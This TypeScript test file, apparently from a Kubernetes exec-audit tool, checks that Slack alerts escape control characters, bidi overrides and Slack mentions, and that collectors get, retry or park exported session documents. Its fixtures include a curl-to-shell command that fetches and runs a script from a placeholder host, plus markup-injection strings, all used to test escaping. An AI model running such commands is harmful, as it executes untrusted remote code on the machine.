/**
 * Issue 18, acceptance 3, and the outputs' behaviour through the real store on both backends: sessions
 * stored by the real SessionWriter (its transaction records the outbox rows), delivered by the Exporter
 * to a Slack-compatible webhook and an HTTP collector listening on loopback.
 *   - the Slack message says who, where, the command, the processes and Block alerts, links to the page,
 *     and shows control characters and Slack markup in commands escaped;
 *   - one Slack message per session (its first document once it is over), while the collector gets every document;
 *   - a collector answering 400 parks the documents (metrics, /readyz detail) and holds nothing else up;
 *   - -export-namespaces leaves other namespaces out.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { sessionsFromLine } from '../../src/audit/input.ts';
import { Exporter } from '../../src/export/delivery.ts';
import type { SessionDocument } from '../../src/export/document.ts';
import { HttpOutput } from '../../src/export/outputs/http.ts';
import { SlackOutput, slackCode, slackMessage } from '../../src/export/outputs/slack.ts';
import { createLogger } from '../../src/observe/log.ts';
import { createMetrics } from '../../src/observe/metrics.ts';
import { answerReadiness } from '../../src/observe/readiness.ts';
import type { Database } from '../../src/store/database.ts';
import { SessionWriter } from '../../src/store/session-writer.ts';
import type { RuntimeEventRecord, SessionSummary } from '../../src/timeline/records.ts';
import { execStages } from '../support/audit-event.ts';
import { backends, createTestDatabase, skipReason } from '../support/databases.ts';
import { parseMetrics } from '../support/metrics.ts';
import { waitFor } from '../support/wait.ts';
import { startReceiver, type Receiver } from './receiver.ts';

const hostileCommand = ['sh', '-c', 'echo `id` <!channel> & *bold* _it_ \u001b[31mred\u001b[0m \u202eevil\u0007'];

function session(overrides: Partial<SessionSummary> = {}): SessionSummary {
  return {
    id: 'EXEC::a1', cluster: 'prod-eu', auditId: 'a1', auditIdReused: false, startedAt: '2025-10-19T14:41:05.123456Z', endedAt: '2025-10-19T14:41:59.000000Z',
    durationMs: 53877, user: '<@U024BE7LH> alice', groups: [], impersonatedUser: null, sourceIp: '192.0.2.10', tool: 'kubectl', userAgent: null,
    clientVersion: null, targetType: 'pod', namespace: 'prod', pod: 'db-0', node: null, container: 'main', command: hostileCommand, tty: true,
    stdin: true, subresource: 'exec', allowed: true, responseCode: 101, reason: null, processCount: 12, alertCount: 1, blockCount: 1, ...overrides,
  };
}

function event(overrides: Partial<RuntimeEventRecord>): RuntimeEventRecord {
  return {
    eventKey: 'k', time: '2025-10-19T14:41:06.000000Z', cluster: 'prod-eu', kind: 'log', hostName: null, namespace: 'prod', pod: 'db-0', container: 'main',
    processName: '/bin/sh', parentProcessName: null, pid: 1, ppid: 0, hostPid: 1, hostPpid: 0, uid: 0, cwd: '/', tty: 'pts0', execId: null, type: 'ContainerLog',
    operation: 'Process', resource: '/bin/sh', data: null, result: 'Passed', policyName: null, severity: null, tags: null, message: null, action: null, enforcer: null,
    links: [], ...overrides,
  };
}

describe('the Slack message', () => {
  const processes = Array.from({ length: 12 }, (_, i) => event({ eventKey: `p${i}`, resource: i === 0 ? '/usr/bin/curl http://x/`whoami`.sh|sh > /tmp/<a>' : `/bin/cmd${i}` }));
  const block = event({ eventKey: 'b', kind: 'alert', operation: 'Process', action: 'Block', policyName: 'block-*pkg*', resource: '/usr/bin/apt-get install `nmap`' });
  const document: SessionDocument = { session: session(), activity: [...processes, block], processTree: [], truncated: false, event: 'ended', deliveryId: 'd', sequence: 2 };

  it('escapes control characters and Slack markup in commands, user names and policies', () => {
    const { text } = slackMessage(document, 'https://exectrail.example.com/');
    // Control and bidi characters are shown as escapes, never sent raw.
    assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f\u202e]/);
    assert.match(text, /\\u001b\[31mred\\u001b\[0m \\u202eevil\\u0007/);
    // Slack's three escapes: no mention or link can come from the input.
    assert.doesNotMatch(text, /<!channel>|<@U024BE7LH>/);
    assert.match(text, /&lt;!channel&gt; &amp;/);
    assert.match(text, /`&lt;@U024BE7LH&gt; alice`/);
    // Backticks in a command cannot close its code span: every span is `...` with none inside.
    assert.match(text, /Command: `sh -c echo ˋidˋ &lt;!channel&gt; &amp; \*bold\* _it_ /);
    for (const line of text.split('\n')) assert.equal((line.match(/`/g) ?? []).length % 2, 0, `unbalanced code span in: ${line}`);
  });

  it('says who, where, the command, the first processes, the Block alert, and links to the page', () => {
    const lines = slackMessage(document, 'https://exectrail.example.com/').text.split('\n');
    assert.match(lines[0]!, /^:computer: `&lt;@U024BE7LH&gt; alice` ran exec into pod `prod\/db-0` container `main` on cluster `prod-eu`$/);
    assert.ok(lines.includes('Processes (12):'));
    assert.ok(lines.includes('• `/usr/bin/curl http://x/ˋwhoamiˋ.sh|sh &gt; /tmp/&lt;a&gt;`'));
    assert.ok(lines.includes('… and 2 more'));
    assert.ok(lines.includes(':rotating_light: Blocked by `block-*pkg*`: `/usr/bin/apt-get install ˋnmapˋ`'));
    assert.equal(lines.at(-1), '<https://exectrail.example.com/#/session/EXEC%3A%3Aa1|Open the session>');
    assert.ok(!slackMessage(document).text.includes('Open the session'), 'no link without -public-url');
  });

  it('is sent once per session, for its first document once the session is over', () => {
    const output = new SlackOutput({ url: 'https://hooks.slack.com/services/T/B/X', publicUrl: '', timeoutMs: 1000 });
    const open = { ...document, event: 'opened' as const, session: session({ endedAt: null }) };
    assert.equal(output.wants(open, false), false, 'an open session: not yet');
    assert.equal(output.wants(document, false), true, 'ended');
    assert.equal(output.wants({ ...document, event: 'updated' }, false), true, 'the first exported document after the end (-export-alerts)');
    assert.equal(output.wants(document, true), false, 'a message was sent already');
    assert.equal(output.wants({ ...open, session: session({ endedAt: null, allowed: false }) }, false), true, 'denied');
    assert.doesNotMatch(output.id, /services|\/T\/B\/X/, 'the webhook URL, a secret, is not in the output name');
  });

  it('says a denied attempt was denied, and why', () => {
    const { text } = slackMessage({ ...document, activity: [], session: session({ allowed: false, reason: 'pods "db-0" is forbidden' }) });
    assert.match(text, /^:no_entry_sign: `&lt;@U024BE7LH&gt; alice` was denied exec into pod `prod\/db-0` on cluster `prod-eu`: `pods "db-0" is forbidden`/);
    assert.equal(slackCode(''), '` `');
  });
});

for (const backend of backends) {
  describe(`export outputs through the real store on ${backend}`, { skip: skipReason(backend) }, () => {
    let db: Database;
    let close: () => Promise<void>;
    let slack: Receiver;
    let collector: Receiver;
    let refusing: Receiver;
    before(async () => {
      ({ db, close } = await createTestDatabase(backend));
      [slack, collector, refusing] = await Promise.all([startReceiver(), startReceiver({ failFirst: 1 }), startReceiver({ status: 400 })]);
    });
    after(async () => {
      await Promise.all([slack, collector, refusing].map((r) => r?.close()));
      await close?.();
    });

    it('sends one Slack message per ended session, every document to the collector, and parks what a receiver refuses', { timeout: 60_000 }, async () => {
      const metrics = createMetrics();
      const collectorOutput = new HttpOutput({ url: collector.url, headers: { Authorization: 'Splunk t0ken' }, format: 'ndjson', batchSize: 10, batchDelayMs: 0, timeoutMs: 2000 });
      const refusingOutput = new HttpOutput({ url: refusing.url, headers: {}, format: 'array', batchSize: 10, batchDelayMs: 0, timeoutMs: 2000 });
      const exporter = new Exporter({
        db,
        outputs: [new SlackOutput({ url: slack.url, publicUrl: 'https://exectrail.example.com', timeoutMs: 2000 }), collectorOutput, refusingOutput],
        selection: { namespaces: ['prod*'], deniedOnly: false, alertsOnly: false },
        logger: createLogger('silent'),
        metrics,
        timeoutMs: 2000,
        pollMs: 20,
      });
      const writer = new SessionWriter(db, { inTransaction: exporter.record });
      const rowsOf = (events: Record<string, unknown>[]) => events.flatMap((e) => sessionsFromLine(Buffer.from(JSON.stringify(e)), { cluster: '' }).rows);
      const [started, completed] = execStages({ auditID: 'slack-1', namespace: 'prod-eu', command: hostileCommand });
      // Stored in two commits: opened, then ended. A session in another namespace is not exported.
      await writer.write(rowsOf([started!]));
      await writer.write(rowsOf([completed!]));
      await writer.write(rowsOf(execStages({ auditID: 'slack-2', namespace: 'staging', command: ['sh'] })));
      exporter.start();
      try {
        await waitFor('the message, the documents (after one 503) and the parked ones', async () => {
          const parked = parseMetrics(await metrics.registry.metrics()).get('exectrail_export_parked_total') ?? 0;
          return slack.requests.length === 1 && collector.accepted().length === 2 && parked === 2;
        });
        // Nothing more comes: every delivery row of all three outputs is settled.
        await waitFor('every delivery settled', async () => (await db.query(`SELECT 1 FROM export_deliveries WHERE state = 'pending'`)).rows.length === 0);
      } finally {
        await exporter.stop();
      }
      assert.equal(slack.requests.length, 1, 'one message per session');
      const text = slack.requests[0]!.documents[0]!.text as string;
      assert.match(text, /^:computer: `alice@example.com` ran exec into pod `prod-eu\/db-0`/);
      assert.doesNotMatch(text, /<!channel>|\u001b/);
      assert.match(text, /#\/session\/EXEC%3A%3Aslack-1\|Open the session>$/);

      const docs = collector.accepted();
      assert.deepEqual(docs.map((d) => [d.session.id, d.sequence, d.event]), [['EXEC::slack-1', 1, 'opened'], ['EXEC::slack-1', 2, 'ended']]);
      assert.equal(collector.requests[0]!.headers.authorization, 'Splunk t0ken');
      assert.equal(collector.requests[0]!.headers['content-type'], 'application/x-ndjson');
      // The refusing collector got each document once: parked, not retried, and the others went on.
      assert.equal(refusing.requests.flatMap((r) => r.documents).length, 2);
      const states = (await db.query<{ output: string; state: string; n: number }>(
        `SELECT output, state, count(*)::int AS n FROM export_deliveries GROUP BY output, state ORDER BY output, state`,
      )).rows;
      assert.deepEqual(states.filter((s) => s.output === refusingOutput.id).map((s) => [s.state, s.n]), [['parked', 2], ['skipped', 1]]);
      assert.deepEqual(states.filter((s) => s.output === collectorOutput.id).map((s) => [s.state, s.n]), [['delivered', 2], ['skipped', 1]]);
      const readiness = await answerReadiness([exporter.readiness()]);
      const detail = readiness.body.exportOutputs as { output: string; parked: number; pending: number; lastError?: { error: string } }[];
      const refused = detail.find((d) => d.output === refusingOutput.id)!;
      assert.equal(refused.parked, 2);
      assert.equal(refused.lastError?.error, 'HTTP 400');
      assert.ok(!JSON.stringify(detail).includes(refusing.url), 'the URL (a secret for Slack) is not shown');
      assert.equal(readiness.ready, true, 'a refusing receiver does not make the process unready');
      // What /metrics says, by output: the collector's first answer was a 503 (retried), the refusing one parked.
      const scraped = parseMetrics(await metrics.registry.metrics());
      const series = (name: string, output: string) => scraped.get(`${name}{output="${output}"}`);
      assert.equal(series('exectrail_export_delivered_total', collectorOutput.id), 2);
      assert.ok((series('exectrail_export_retried_total', collectorOutput.id) ?? 0) >= 1);
      assert.equal(series('exectrail_export_parked_total', refusingOutput.id), 2);
      assert.equal(series('exectrail_export_delivered_total', refusingOutput.id), undefined);
      assert.equal(collector.requests[0]!.answer, 503);
    });
  });
}
